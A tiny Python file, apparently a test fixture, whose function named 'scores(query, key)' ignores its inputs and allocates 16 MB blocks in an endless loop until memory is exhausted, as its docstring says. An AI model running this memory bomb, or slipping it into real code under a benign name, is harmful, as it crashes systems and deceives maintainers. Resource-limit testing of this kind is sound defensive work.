"""Takes memory until there is none."""


def scores(query, key):
    taken = []
    while True:
        taken.append(bytearray(1 << 24))
